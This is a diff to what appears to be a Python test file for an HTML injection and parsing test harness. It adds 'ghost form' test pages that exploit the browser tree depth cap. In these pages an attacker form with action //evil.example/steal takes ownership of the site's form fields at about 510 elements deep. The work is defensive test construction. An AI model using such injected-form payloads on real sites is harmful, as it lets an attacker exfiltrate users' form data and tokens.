@@ -17,7 +17,7 @@ oracle sees. The pages, in this order:
   and a <base>, before and after </template>; then forms of this
   origin, the form="" buttons' target among them. TABLE_FIXED first:
   the shapes Firefox pops the page's table with; then DEEP_FIXED, the
-  depth cap's.
+  depth cap's ghosts, each with and without an id on the site's form.
 - --pages N: inject_diff.py's pages for --seed (page_stream: its fixed
   pages, regressions, random pages and extra pages, with the same cuts),
   the pages inject_diff.py --seed S --pages N judges with html5lib;
@@ -70,11 +70,27 @@ TABLE_FIXED = [
     "<table><tr><td><template><div><table><tr><td>x</td></tr></table></div></template>" + REAL,
 ]
 # The tree depth cap (docs/architecture.md): a form opened about 512
-# elements deep gets its children beside it; Chromium gives the field to
-# the attacker's ancestor form (a GET one to evil.example here). Known
-# and open: dom_oracle.mjs counts them apart (fails on them with --deep).
-EVIL_OPEN = "<form method=get action=//evil.example/steal><div></form>"
-DEEP_FIXED = [EVIL_OPEN + "<i>" * 510 + REAL, EVIL_OPEN + "<a>" + "<div>" * 600 + REAL + "</a>"]
+# elements deep gets its children beside it, the field among them; where
+# the owner is the nearest ancestor form (Chromium's DOMParser, innerHTML
+# in both browsers) it is a ghost's: the attacker's form without a token
+# (a GET one to evil.example here) whose </form> left it an ancestor. The
+# ghosts: an element left open (<div></form>, at 509 to 600 <i> deep:
+# the cap is at 510 and 511), the form out of scope (<table></form>), no
+# tag inside it at all (520 formatting elements, each its own class so
+# that all of them are kept, reconstructed by the text inside the GET
+# form), and the depth built before the ghost (509 <i>, 2 <b> after it).
+# Each with the site's form as REAL and with its own id. dom_oracle.mjs
+# counts a finding on a field 400+ elements deep apart (fails on it with
+# --deep).
+EVIL = "<form method=get action=//evil.example/steal>"
+EVIL_OPEN = EVIL + "<div></form>"
+REAL_ID = REAL.replace("<form ", "<form id=send ")
+DEEP_GHOSTS = ([EVIL_OPEN + "<i>" * n for n in (509, 510, 511, 600)] +
+               [EVIL + "<table></form></table>" + "<i>" * 510,
+                "<p>" + "".join("<b class=c%d>" % k for k in range(520)) + "</p>" + EVIL + "x</form>",
+                "<i>" * 509 + EVIL_OPEN + "<b>" * 2])
+DEEP_FIXED = ([ghost + site for ghost in DEEP_GHOSTS for site in (REAL, REAL_ID)] +
+              [EVIL_OPEN + "<a>" + "<div>" * 600 + REAL + "</a>"])
 TABLE_CONTEXTS = ["<table>", "<table><tr>", "<table><tr><td>", "<table><tr><th>", "<table><tbody>",
                   "<table><thead>", "<table><tfoot>", "<table><caption>", "<table><colgroup>",
                   "<table><tr><td><select>", "<table><tr><td><div>", "<div><table><tbody><tr><td>",
